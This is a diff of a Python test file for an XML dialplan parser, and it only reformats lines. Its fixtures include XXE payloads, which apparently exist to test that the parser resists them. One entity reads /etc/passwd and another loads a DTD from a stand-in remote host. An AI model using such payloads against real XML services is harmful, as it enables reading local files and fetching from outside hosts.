@@ -26,7 +26,8 @@ XXE = b"""<?xml version="1.0"?>
 <!DOCTYPE dialplan [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
 <dialplan><play type="tts">&secret;</play></dialplan>"""
 
-XXE_NETWORK = b"""<!DOCTYPE dialplan [<!ENTITY % remote SYSTEM "http://203.0.113.1/x.dtd"> %remote;]>
+XXE_NETWORK = b"""<!DOCTYPE dialplan [
+  <!ENTITY % remote SYSTEM "http://203.0.113.1/x.dtd"> %remote;]>
 <dialplan/>"""
 
 
@@ -107,7 +108,10 @@ def test_positions_point_at_the_opening_bracket() -> None:
 
 
 def test_positions_with_bytes_in_a_declared_encoding() -> None:
-    xml = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<dialplan><play type="tts">é</play> <hangup/></dialplan>'
+    xml = (
+        '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
+        '<dialplan><play type="tts">é</play> <hangup/></dialplan>'
+    )
     plan = parse(xml.encode("latin-1"))
     assert plan.elements[0].text == "é"
     assert (plan.elements[1].line, plan.elements[1].column) == (2, 37)
